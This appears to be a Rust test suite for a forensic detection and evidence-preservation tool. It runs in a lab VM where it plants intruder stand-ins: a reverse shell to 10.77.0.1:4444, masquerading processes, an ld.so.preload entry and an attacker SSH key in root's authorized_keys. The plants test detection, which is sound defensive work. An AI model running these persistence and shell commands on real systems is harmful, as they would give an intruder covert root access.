//! Evidence of a real Debian with real daemons and stand-ins: taken, sealed, and opened again.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use std::collections::BTreeSet;
use std::process::Command;

use serde_json::Value;
use stanch_range::{Victim, debian, minisign, possible};

/// Returns sign and entity of each finding, but how busy the machine is at the very moment: that
/// is measured anew by each who looks.
fn findings(document: &Value) -> BTreeSet<String> {
    let findings = document["findings"].as_array().unwrap().iter();
    findings
        .filter(|finding| !finding["sign"].as_str().unwrap().starts_with("performance."))
        .map(|finding| format!("{} {}", finding["sign"].as_str().unwrap(), finding["entity"]))
        .collect()
}

/// What an intruder leaves, by name: how it is made ready, and how it starts.
const STAND_INS: &[(&str, &str, &str)] = &[
    ("reverse-shell", "", "/run/range/stand-in socket-shell 10.77.0.1:4444"),
    ("pipe-relay", "", "/run/range/stand-in pipe-relay 10.77.0.1:4444"),
    ("deleted", "cp /run/range/stand-in /usr/sbin/agentd", "/usr/sbin/agentd sleep"),
    ("memfd", "", "/run/range/stand-in memfd"),
    (
        "fake-kernel-thread",
        "cp /run/range/stand-in /usr/local/bin/upd",
        "/usr/local/bin/upd named [kworker/0:3]",
    ),
    (
        "false-name",
        "cp /run/range/stand-in /usr/local/bin/upd2",
        "/usr/local/bin/upd2 named /usr/sbin/cron",
    ),
    ("packet-socket", "cp /run/range/stand-in /usr/local/sbin/pktd", "/usr/local/sbin/pktd packet"),
    ("listener", "cp /run/range/stand-in /usr/sbin/netd", "/usr/sbin/netd listen 31337"),
    ("ebpf", "cp /run/range/stand-in /usr/local/sbin/probed", "/usr/local/sbin/probed bpf"),
];

#[test]
fn a_bundle_holds_and_shows_what_the_running_machine_showed() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    let mut sink = victim.spawn_on_peer(&["sink", "4444"]).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    for (name, prepare, start) in STAND_INS {
        if !prepare.is_empty() {
            victim.shell(prepare).unwrap();
        }
        victim.start(name, start).unwrap();
    }
    victim
        .shell(
            "rm /usr/sbin/agentd; echo /usr/lib/libhelper.so > /etc/ld.so.preload; \
             mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE eve' >> \
             /root/.ssh/authorized_keys; mkfifo /tmp/pipe; truncate -s 1T /tmp/sparse; \
             printf 'x' > \"$(printf '/tmp/a\\nb')\"",
        )
        .unwrap();
    let times = "stat -c '%n %X' /etc/passwd /etc/shadow /root/.ssh/authorized_keys /etc /tmp \
                 /usr/bin /etc/ssh/sshd_config";
    // Old enough that the kernel's relatime would set them anew, and this victim's own: a folder of
    // the layer below is read by other victims, too.
    let touch = "touch -a -d 2020-01-01 /etc/passwd /etc/shadow /etc/ssh/sshd_config /usr/bin /etc";
    victim.shell(touch).unwrap();
    let before = victim.shell(times).unwrap();

    let (live, code) = victim.stanch(&["detect"]).unwrap();
    assert_eq!(code, 1);
    let (made, code) = victim.stanch(&["preserve", "-o", "/run/case.tar.gz"]).unwrap();
    assert!(matches!(code, 0 | 3), "{made:#}");
    assert_eq!(victim.shell(times).unwrap(), before, "a time of reading changed");
    let (seal, code) = victim.stanch(&["seal", "verify", "/run/case.tar.gz"]).unwrap();
    assert_eq!((code, &seal["holds"]), (0, &Value::Bool(true)), "{seal:#}");
    assert_eq!(seal["merkle_root"], made["merkle_root"]);

    let (again, code) = victim.stanch(&["--bundle", "/run/case.tar.gz", "detect"]).unwrap();
    assert_eq!(code, 1);
    let (seen, kept) = (findings(&live), findings(&again));
    println!(
        "live: {seen:#?}\nnot in the bundle: {:#?}",
        seen.difference(&kept).collect::<Vec<_>>()
    );
    println!("only in the bundle: {:#?}", kept.difference(&seen).collect::<Vec<_>>());
    assert!(seen.len() >= STAND_INS.len(), "{seen:#?}");
    let lost: Vec<_> = seen.difference(&kept).collect();
    assert!(lost.is_empty(), "{lost:#?}");
    let more: Vec<_> = kept.difference(&seen).collect();
    assert!(more.is_empty(), "{more:#?}");
    assert_eq!(again["verdict"], live["verdict"]);

    what_is_in_it(&victim);
    sink.kill().unwrap();
    sink.wait().unwrap();
}

/// Looks at the items that an intruder's tricks concern.
fn what_is_in_it(victim: &Victim) {
    // The programs themselves are there, by the digest of the stand-in.
    let digest = victim.shell("sha256sum /run/range/stand-in").unwrap();
    let digest = digest.split_whitespace().next().unwrap().to_owned();
    let manifest = victim.shell("cd /run && tar xzOf case.tar.gz meta/manifest.jsonl").unwrap();
    let items: Vec<Value> =
        manifest.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let programs = items.iter().filter(|item| item["artifact"] == "programs");
    let programs: Vec<&Value> = programs.filter(|item| item["sha256"] == digest.as_str()).collect();
    assert!(programs.len() >= 2, "the deleted program and the one in memory");
    let of = |name: &str| items.iter().find(|item| item["name"] == name).unwrap();
    assert_eq!(of("[root]/tmp/pipe")["status"], "described");
    assert_eq!(of("[root]/tmp/sparse")["status"], "left-out");
    assert_eq!(of("[root]/tmp/a\nb")["status"], "whole");
}

/// The script that the handbook gives to who does not trust us.
const HANDBOOK: &str = include_str!("../../handbook/40-preserve/keeping-evidence.md");

#[test]
fn a_stranger_verifies_what_minisign_signed_without_us() {
    if !possible() {
        return;
    }
    minisign().unwrap();
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    let (made, code) = victim.stanch(&["preserve", "-o", "/run/case.tar.gz"]).unwrap();
    assert!(matches!(code, 0 | 3), "{made:#}");
    // Their machine is another.
    let folder = std::env::temp_dir().join(format!("stanch-stranger-{}", std::process::id()));
    std::fs::create_dir(&folder).unwrap();
    let kept = folder.join("case.tar.gz");
    std::fs::copy(victim.root().join("run/case.tar.gz"), &kept).unwrap();
    let on_the_range = |program: &str, arguments: &[&str]| {
        let out = Command::new(program).args(arguments).current_dir(&folder).output().unwrap();
        let said = [out.stdout, out.stderr].map(|said| String::from_utf8(said).unwrap()).concat();
        (out.status.success(), said)
    };
    for arguments in [
        &["-G", "-W", "-p", "their.pub", "-s", "their.key"][..],
        &["-S", "-s", "their.key", "-m", "case.tar.gz"],
        &["-V", "-p", "their.pub", "-m", "case.tar.gz"],
    ] {
        let (is_done, said) = on_the_range("minisign", arguments);
        assert!(is_done, "{arguments:?}: {said}");
    }
    for name in ["their.pub", "case.tar.gz.minisig"] {
        victim.put(&folder.join(name), &format!("/run/{name}")).unwrap();
    }
    let verify = ["seal", "verify", "/run/case.tar.gz", "--public-key", "/run/their.pub"];
    let (seal, code) = victim.stanch(&verify).unwrap();
    assert_eq!((code, &seal["holds"]), (0, &Value::Bool(true)), "{seal:#}");
    let script = HANDBOOK.split("```sh\n").nth(1).unwrap().split("```").next().unwrap();
    std::fs::write(folder.join("verify.sh"), script).unwrap();
    let by_hand = ["verify.sh", "case.tar.gz", "their.pub"];
    let (holds, said) = on_the_range("sh", &by_hand);
    assert!(holds && said.contains(made["merkle_root"].as_str().unwrap()), "{said}");
    let (is_done, said) =
        on_the_range("minisign", &["-G", "-W", "-f", "-p", "their.pub", "-s", "x"]);
    assert!(is_done, "{said}");
    let (holds, said) = on_the_range("sh", &by_hand);
    assert!(!holds && said.contains("does not hold: signature"), "{said}");
    std::fs::remove_dir_all(&folder).unwrap();
}

#[test]
fn a_disk_that_fills_up_leaves_what_holds_and_says_so() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    victim.shell("mkdir -p /mnt/small; mount -t tmpfs -o size=600k tmpfs /mnt/small").unwrap();
    let (error, code) = victim.stanch(&["preserve", "-o", "/mnt/small/case.tar.gz"]).unwrap();
    assert_eq!((code, &error["exit"]), (6, &Value::from(6)), "{error:#}");
    let left = error["left_as"].as_str().unwrap();
    let path = left.split('`').nth(1).unwrap().to_owned();
    assert!(path.starts_with("/mnt/small/case.tar.gz.writing-"), "{left}");
    let there = victim.shell("ls /mnt/small").unwrap();
    assert_eq!(there.lines().count(), 1, "nothing is claimed that is not there: {there}");
    let (seal, code) = victim.stanch(&["seal", "verify", &path]).unwrap();
    assert_eq!((code, &seal["cut"]), (3, &Value::Bool(true)), "{seal:#}");
    assert!(seal["whole"].as_u64().unwrap() > 50, "{seal:#}");
    assert_eq!(seal["flaws"], Value::Array(Vec::new()));
}

#[test]
fn a_tree_that_changes_all_the_time_is_taken_as_far_as_it_stands_still() {
    if !possible() {
        return;
    }
    let root = debian().unwrap();
    let victim = Victim::boot(&root).unwrap();
    victim
        .shell(
            "cat >/run/churn.sh <<'END'\n\
             i=0; while [ $i -lt 100000 ]; do i=$((i+1)); f=/tmp/churn-$((i%50)); \
             echo $i >>$f; [ $((i%3)) = 0 ] && rm -f $f; done\nEND\n\
             setsid --fork sh /run/churn.sh </dev/null >/dev/null 2>&1",
        )
        .unwrap();
    let ran =
        victim.run(&["sh", "-c", "/run/range/stanch preserve -o - >/run/case.tar.gz"]).unwrap();
    assert!(matches!(ran.code, 0 | 3), "{ran:?}");
    let (seal, code) = victim.stanch(&["seal", "verify", "/run/case.tar.gz"]).unwrap();
    assert_eq!(code, 0, "{seal:#}");
}
